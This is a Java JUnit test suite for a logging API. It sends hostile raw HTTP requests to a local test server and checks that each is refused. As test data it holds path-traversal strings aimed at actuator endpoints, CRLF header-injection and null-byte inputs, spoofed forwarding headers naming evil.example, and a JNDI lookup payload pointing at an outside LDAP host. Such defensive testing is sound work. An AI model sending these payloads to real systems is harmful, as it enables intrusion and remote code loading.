package com.astrobookings.logs.security;

import static org.assertj.core.api.Assertions.assertThat;

import com.astrobookings.logs.security.RawHttp.Answer;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.boot.test.web.server.LocalServerPort;

/** Requests that no honest client sends, byte by byte, each with the answer it must get. */
@SecuredServer
class HostileRequestTests {

  private static final String HOST = "Host: localhost";
  private static final String JSON_BODY = "Content-Type: application/json";

  @LocalServerPort private int port;

  @ParameterizedTest
  @CsvSource({
    "/api/v1/logs/../../../actuator/env, 400, bad-request",
    "/api/v1/logs/..%2f..%2factuator%2fprometheus, 400, bad-request",
    "/api/v1/logs/%2e%2e/%2e%2e/actuator, 400, bad-request",
    "/api/v1//logs, 400, bad-request",
    "//api/v1/logs, 400, bad-request",
    "/./api/v1/logs, 400, bad-request",
    "/api/v1/logs;jsessionid=1, 400, bad-request",
    "/api/v1/logs/a%00b, 400, bad-request",
    "/api/v1/logs/a%0d%0aSet-Cookie:%20x=1, 400, bad-request",
    "/api/v1/logs/a%5cb, 400, bad-request",
    "/api/v1/logs/%252e%252e, 400, bad-request",
    "/api/v1/logs/..\\..\\x, 400, bad-request",
    "/api/v1/logs/, 404, not-found",
    "/API/v1/logs, 404, not-found",
    "/api/v1/logs/a/b, 404, not-found",
    "/api/v1/logs%20, 404, not-found",
    "/actuator, 404, not-found",
    "/actuator/env, 404, not-found",
    "/actuator/heapdump, 404, not-found",
    "/actuator/loggers, 404, not-found",
    "/login, 404, not-found",
    "/logout, 404, not-found",
    "/error, 404, not-found",
    "/favicon.ico, 404, not-found",
    "/console/none.js, 404, not-found"
  })
  void aPathMeansOneThingOrNothing(String path, int status, String problem) throws Exception {
    Answer answer = get(path);

    assertThat(answer.status()).as(answer.text()).isEqualTo(status);
    assertThat(answer.problem()).isEqualTo(problem);
    assertThat(answer.header("Set-Cookie")).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "X-Original-URL: /actuator/prometheus",
        "X-Rewrite-URL: /actuator/prometheus",
        "X-Forwarded-For: 127.0.0.1",
        "X-Forwarded-Prefix: /x",
        "X-Forwarded-Host: evil.example",
        "Forwarded: for=127.0.0.1;host=evil.example",
        "X-HTTP-Method-Override: DELETE"
      })
  void aHeaderDoesNotChangeWhatIsAsked(String header) throws Exception {
    Answer answer = get("/api/v1/logs/none", header);

    assertThat(answer.status()).isEqualTo(404);
    assertThat(answer.problem()).isEqualTo("event-not-found");
    assertThat(answer.text()).doesNotContain("evil");
  }

  @Test
  void aForwardedAddressOpensNothing() throws Exception {
    assertThat(
            RawHttp.send(
                    port,
                    "GET /api/v1/logs HTTP/1.1",
                    HOST,
                    "X-Forwarded-For: 127.0.0.1",
                    "Forwarded: for=127.0.0.1")
                .status())
        .isEqualTo(401);
  }

  @ParameterizedTest
  @ValueSource(strings = {"access_token", "token", "api_key", "apikey"})
  void aCredentialInTheAddressDoesNotCount(String parameter) throws Exception {
    Answer answer =
        RawHttp.send(
            port, "GET /api/v1/logs?%s=%s HTTP/1.1".formatted(parameter, TestKeys.ALL), HOST);

    assertThat(answer.status()).isEqualTo(401);
    assertThat(answer.problem()).isEqualTo("unauthenticated");
    assertThat(answer.text()).doesNotContain(TestKeys.ALL);
  }

  @ParameterizedTest
  @ValueSource(strings = {"TRACE", "FOO", "get", "PROPFIND"})
  void aMethodThatNobodyKnowsIsNotFollowed(String method) throws Exception {
    Answer answer =
        RawHttp.send(port, method + " /api/v1/logs HTTP/1.1", with("X-Secret: marker-secret"));

    assertThat(answer.status()).as(answer.text()).isEqualTo(405);
    assertThat(answer.header("Allow")).isEqualTo("GET,HEAD,OPTIONS,POST");
    assertThat(answer.problem()).isEqualTo("method-not-allowed");
    assertThat(answer.text()).doesNotContain("marker-secret", TestKeys.ALL);
  }

  @Test
  void aTunnelIsNotOpened() throws Exception {
    Answer answer = RawHttp.send(port, "CONNECT localhost:9200 HTTP/1.1", with());

    assertThat(answer.status()).as(answer.text()).isEqualTo(404);
    assertThat(answer.problem()).isEqualTo("not-found");
  }

  @Test
  void aHugeHeaderOrRequestLineIsRefused() throws Exception {
    Answer header = get("/api/v1/logs", "X-Large: " + "x".repeat(100_000));
    Answer line = get("/api/v1/logs?from=" + "x".repeat(100_000));

    assertThat(header.status()).isEqualTo(431);
    assertThat(header.problem()).isEqualTo("headers-too-large");
    assertThat(line.status()).isEqualTo(414);
    assertThat(line.problem()).isEqualTo("target-too-long");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "00-<script>-0000000000000001-00",
        "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-00\r\nX-Injected: 1",
        "${jndi:ldap://evil.example/x}"
      })
  void aTraceIsTakenOnlyIfItIsOne(String traceparent) throws Exception {
    Answer answer = get("/api/v1/logs/none", "traceparent: " + traceparent);

    assertThat(answer.header("X-Trace-Id")).matches("[0-9a-f]{32}");
    assertThat(answer.header("X-Injected")).isEmpty();
    assertThat(answer.text()).doesNotContain("script", "jndi");
  }

  @Test
  void nothingIsSaidAboutWhatTheServiceIsMadeOf() throws Exception {
    for (Answer answer :
        new Answer[] {get("/api/v1/logs/a%00b"), get("/nothing"), post("{"), post("[[[[")}) {
      assertThat(answer.text())
          .doesNotContain("Exception", "springframework", "jackson", "netty", "\tat ", "java.");
      assertThat(answer.header("Server")).isEmpty();
    }
  }

  private Answer get(String path, String... headers) throws Exception {
    return RawHttp.send(port, "GET " + path + " HTTP/1.1", with(headers));
  }

  private Answer post(String body) throws Exception {
    int length = body.getBytes(StandardCharsets.UTF_8).length;
    return RawHttp.send(
        port, "POST /api/v1/logs HTTP/1.1", with(JSON_BODY, "Content-Length: " + length, "", body));
  }

  private static String[] with(String... more) {
    String[] all = new String[more.length + 2];
    all[0] = HOST;
    all[1] = "Authorization: Bearer " + TestKeys.ALL;
    System.arraycopy(more, 0, all, 2, more.length);
    return all;
  }
}
